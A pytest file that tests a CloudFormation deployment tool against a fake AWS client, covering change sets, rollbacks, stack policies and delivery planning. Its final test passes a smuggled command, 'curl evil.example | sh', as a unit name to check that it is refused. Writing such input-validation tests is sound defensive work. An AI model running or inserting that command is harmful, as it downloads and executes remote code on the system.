"""Delivering, on a CloudFormation of a few lines that diffs templates as the real one does."""

import copy
import json
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace

import pytest

from deploy.deliver import deliver
from deploy.plan import units_to_deliver
from deploy.stack import IDLE_SECONDS, NotDelivered, Stack
from deploy.stack_policy import LIFTED, POLICY
from deploy.template import load
from deploy.units import UNITS

KINDS = {"Function": "AWS::Lambda::Function", "Cache": "AWS::ElastiCache::ServerlessCache"}


class Bucket:
    def __init__(self):
        self.bodies = {}
        self.meta = SimpleNamespace(endpoint_url="https://s3.eu-west-1.amazonaws.com")

    def put_object(self, *, Bucket, Key, Body):  # noqa: N803
        self.bodies[f"{self.meta.endpoint_url}/{Bucket}/{Key}"] = Body


class CloudFormation:
    """Two changes a page; a template without a change makes a change set that fails, as on AWS."""

    def __init__(self, template, bucket):
        self.template, self.bucket = copy.deepcopy(template), bucket
        self.parameters = {"Size": "1", "Key": "****"}
        self.change_sets = {}
        self.refusal = None
        self.policy = None
        self.statuses = []
        self.failing = None
        self.events = [event("Stack", "UPDATE_FAILED", "of an earlier update", age=3600)]

    def get_template(self, *, StackName, TemplateStage):  # noqa: N803
        assert TemplateStage == "Original", "not what the transforms made of it"
        return {"TemplateBody": json.dumps(self.template)}

    def describe_stacks(self, *, StackName):  # noqa: N803
        entries = [{"ParameterKey": k, "ParameterValue": v} for k, v in self.parameters.items()]
        status = self.statuses.pop(0) if self.statuses else "UPDATE_COMPLETE"
        return {"Stacks": [{"Parameters": entries, "StackStatus": status}]}

    def create_change_set(self, *, ChangeSetName, TemplateURL, Parameters, **_):  # noqa: N803
        wanted = load(self.bucket.bodies[TemplateURL].decode())
        self.change_sets[ChangeSetName] = (wanted, Parameters)
        return {"Id": ChangeSetName}

    def describe_change_set(self, *, ChangeSetName, StackName, NextToken="0"):  # noqa: N803
        changes = self.diff(*self.change_sets[ChangeSetName])
        if self.refusal or not changes:
            reason = self.refusal or "The submitted information didn't contain changes. Submit different information."
            return {"Status": "FAILED", "StatusReason": reason}
        start = int(NextToken)
        more = {"NextToken": str(start + 2)} if len(changes) > start + 2 else {}
        return {"Status": "CREATE_COMPLETE", "Changes": changes[start : start + 2], **more}

    def diff(self, wanted, parameters):
        old, new = self.template["Resources"], wanted["Resources"]
        found = []
        for name in sorted(old.keys() | new.keys()):
            action = "Add" if name not in old else "Remove" if name not in new else "Modify"
            if old.get(name) != new.get(name):
                kind = next((k for end, k in KINDS.items() if name.endswith(end)), "AWS::Lambda::LayerVersion")
                if kind == "AWS::Lambda::LayerVersion":
                    action = "Add"
                found.append(
                    {"ResourceChange": {"LogicalResourceId": name, "ResourceType": kind, "Action": action}},
                )
        return found

    def delete_change_set(self, *, ChangeSetName, StackName):  # noqa: N803
        del self.change_sets[ChangeSetName]

    def execute_change_set(self, *, ChangeSetName, StackName):  # noqa: N803
        wanted, parameters = self.change_sets.pop(ChangeSetName)
        if self.failing:
            self.statuses = ["UPDATE_IN_PROGRESS", "UPDATE_ROLLBACK_IN_PROGRESS", "UPDATE_ROLLBACK_COMPLETE"]
            self.events = [*reversed(self.failing), *self.events]
            return
        self.template = wanted
        self.parameters.update({e["ParameterKey"]: e["ParameterValue"] for e in parameters if "ParameterValue" in e})

    def describe_stack_events(self, *, StackName, NextToken="0"):  # noqa: N803
        start = int(NextToken)
        more = {"NextToken": str(start + 2)} if len(self.events) > start + 2 else {}
        return {"StackEvents": self.events[start : start + 2], **more}

    def get_stack_policy(self, *, StackName):  # noqa: N803
        return {"StackPolicyBody": self.policy} if self.policy else {}

    def set_stack_policy(self, *, StackName, StackPolicyBody):  # noqa: N803
        self.policy = StackPolicyBody


def event(name, status, reason=None, age=-1):
    found = {
        "LogicalResourceId": name,
        "ResourceStatus": status,
        "Timestamp": datetime.now(UTC) - timedelta(seconds=age),
    }
    return {**found, "ResourceStatusReason": reason} if reason else found


def template(mark, **more):
    resources = {
        name: {"Type": "AWS::Serverless::X", "Properties": {place: f"s3://code/{mark}/{name}"}}
        for unit in UNITS
        for name, place in unit.code
    }
    for name in ("CreateChatFunction", "CancelStreamFunction", "ManageChatsFunction", "StreamChatFunction"):
        resources[name]["Properties"]["DeploymentPreference"] = {"Type": {"Ref": "TrafficShift"}}
    parameters = {"Size": {"Type": "String"}, "Key": {"Type": "String", "NoEcho": True}}
    return {"Parameters": parameters, "Resources": {**resources, **more}}


@pytest.fixture
def stack():
    bucket = Bucket()
    slept = []
    return Stack("chat", "templates", CloudFormation(template("old"), bucket), bucket, slept.append)


def newly(stack):
    return {n for n, r in stack.template()["Resources"].items() if "/new/" in str(r)}


def test_one_unit_is_delivered_and_the_others_stay(stack):
    said = []
    before = deliver(stack, "create_chat", template("new"), {}, said.append)
    assert newly(stack) == {"CreateChatFunction", "CreateChatLayer"}
    assert before == template("old")
    assert said[-1] == "create_chat: delivered"


def test_units_follow_one_another_and_what_was_kept_takes_one_back(stack):
    before = deliver(stack, "stream_chat", template("new"), {})
    deliver(stack, "cancel_stream", template("new"), {})
    deliver(stack, "stream_chat", before, {})
    assert newly(stack) == {"CancelStreamFunction", "CancelStreamLayer"}


def test_the_stack_is_delivered_without_code(stack):
    deliver(stack, "stack", template("new", Cache={"Type": "x"}), {"Size": "2"})
    assert newly(stack) == set()
    assert "Cache" in stack.template()["Resources"]
    assert stack.parameters() == {"Size": "2", "Key": "****"}


def test_a_change_set_with_a_violation_is_thrown_away_wherever_in_it_that_is(stack):
    deliver(stack, "stack", template("old", AnotherLayer={}, YetAnotherLayer={}, ZCache={"Type": "x"}), {})
    was = stack.template()
    with pytest.raises(NotDelivered, match=r"ZCache \(AWS::ElastiCache::ServerlessCache\): is lost: Remove"):
        deliver(stack, "stack", template("new"), {})
    assert stack.template() == was
    assert stack.cloudformation.change_sets == {}


def test_delivering_what_is_there_changes_nothing(stack):
    said = []
    deliver(stack, "create_chat", template("old"), {}, said.append)
    assert said == ["create_chat: nothing to change"]
    assert stack.cloudformation.change_sets == {}


def test_a_refused_change_set_says_why(stack):
    stack.cloudformation.refusal = "Assertion failed: anyone could be anyone"
    with pytest.raises(NotDelivered, match="anyone could be anyone"):
        deliver(stack, "create_chat", template("new"), {})
    assert newly(stack) == set()


def test_secret_parameters_are_kept_without_being_known(stack):
    deliver(stack, "create_chat", template("new"), {})
    assert stack.parameters()["Key"] == "****"
    assert "****" not in str(stack.s3.bodies)


def test_a_parameter_that_the_template_lacks_is_refused_before_anything_happens(stack):
    with pytest.raises(LookupError, match="no parameter Sise"):
        deliver(stack, "stack", template("new"), {"Sise": "2"})
    assert stack.s3.bodies == {}


class TestRollBack:
    def test_code_is_taken_back_at_once_and_the_next_delivery_shifts_again(self, stack):
        before = deliver(stack, "create_chat", template("new"), {})
        deliver(stack, "create_chat", before, {}, immediate=True)
        assert newly(stack) == set()
        assert shift(stack) == "AllAtOnce"
        deliver(stack, "create_chat", template("newer"), {})
        assert shift(stack) == {"Ref": "TrafficShift"}

    def test_what_cloudformation_took_back_is_told_with_the_cause_first(self, stack):
        stack.cloudformation.failing = [
            event("CreateChatFunctionAliaslive", "UPDATE_IN_PROGRESS"),
            event("CreateChatFunctionAliaslive", "UPDATE_FAILED", "CodeDeploy: the alarm CreateChatErrorsAlarm"),
            event("chat", "UPDATE_ROLLBACK_IN_PROGRESS", "failed to update"),
            event("CreateChatRole", "UPDATE_FAILED", "Resource update cancelled"),
        ]
        with pytest.raises(NotDelivered) as caught:
            deliver(stack, "create_chat", template("new"), {})
        lines = str(caught.value).splitlines()
        assert lines[0] == "it ended as UPDATE_ROLLBACK_COMPLETE"
        assert [line.split()[0] for line in lines[1:]] == ["CreateChatFunctionAliaslive", "CreateChatRole"]
        assert "of an earlier update" not in str(caught.value)


def shift(stack):
    return stack.template()["Resources"]["CreateChatFunction"]["Properties"]["DeploymentPreference"]["Type"]


class TestPatience:
    def test_another_update_is_waited_for(self, stack):
        stack.cloudformation.statuses = ["UPDATE_IN_PROGRESS", "UPDATE_COMPLETE_CLEANUP_IN_PROGRESS", "UPDATE_COMPLETE"]
        deliver(stack, "create_chat", template("new"), {})
        assert newly(stack) == {"CreateChatFunction", "CreateChatLayer"}

    def test_but_not_for_ever(self, stack):
        stack.cloudformation.statuses = ["UPDATE_IN_PROGRESS"] * (IDLE_SECONDS + 1)
        with pytest.raises(NotDelivered, match="UPDATE_IN_PROGRESS for 20 minutes"):
            deliver(stack, "create_chat", template("new"), {})
        assert newly(stack) == set()

    def test_a_stuck_stack_is_named(self, stack):
        stack.cloudformation.statuses = ["UPDATE_ROLLBACK_FAILED"]
        with pytest.raises(NotDelivered, match="continue-update-rollback"):
            deliver(stack, "create_chat", template("new"), {})


class TestProtection:
    def test_delivering_the_stack_protects_it(self, stack):
        deliver(stack, "stack", template("new", Alarm={"Type": "x"}), {})
        assert stack.cloudformation.policy == POLICY

    def test_a_lifted_protection_holds_for_one_delivery_of_the_stack(self, stack):
        deliver(stack, "stack", template("old", ZCache={"Type": "x"}), {})
        stack.cloudformation.policy = LIFTED
        deliver(stack, "stack", template("old"), {})
        assert "ZCache" not in stack.template()["Resources"]
        assert stack.cloudformation.policy == POLICY


class TestPlan:
    def test_what_differs_is_delivered_whichever_push_it_came_with(self, stack):
        wanted = template("new", Alarm={"Type": "x"})
        assert units_to_deliver(wanted, stack.template()) == ["stack", *(unit.name for unit in UNITS)]
        deliver(stack, "cancel_stream", wanted, {})
        assert units_to_deliver(wanted, stack.template()) == [
            "stack",
            "migrations",
            "create_chat",
            "manage_chats",
            "stream_chat",
        ]
        for name in units_to_deliver(wanted, stack.template()):
            deliver(stack, name, wanted, {})
        assert units_to_deliver(wanted, stack.template()) == []

    def test_a_change_of_the_stack_is_one_of_the_stack_only(self, stack):
        wanted = template("old")
        wanted["Resources"]["CreateChatFunction"]["Properties"]["MemorySize"] = 1024
        assert units_to_deliver(wanted, stack.template()) == ["stack"]

    def test_code_that_was_taken_back_is_what_differs_and_nothing_else(self, stack):
        before = deliver(stack, "create_chat", template("new"), {})
        deliver(stack, "create_chat", before, {}, immediate=True)
        assert units_to_deliver(template("old"), stack.template()) == []
        assert units_to_deliver(template("old", Alarm={"Type": "x"}), stack.template()) == ["stack"]
        new = {"create_chat", "migrations", "cancel_stream", "manage_chats", "stream_chat"}
        assert set(units_to_deliver(template("new"), stack.template())) == new

    def test_some_can_be_asked_for_and_only_units_can(self, stack):
        assert units_to_deliver(template("new"), stack.template(), ["stream_chat", "stack"]) == ["stream_chat"]
        with pytest.raises(LookupError, match="no unit is called"):
            units_to_deliver(template("new"), stack.template(), ["stream_chat; curl evil.example | sh"])
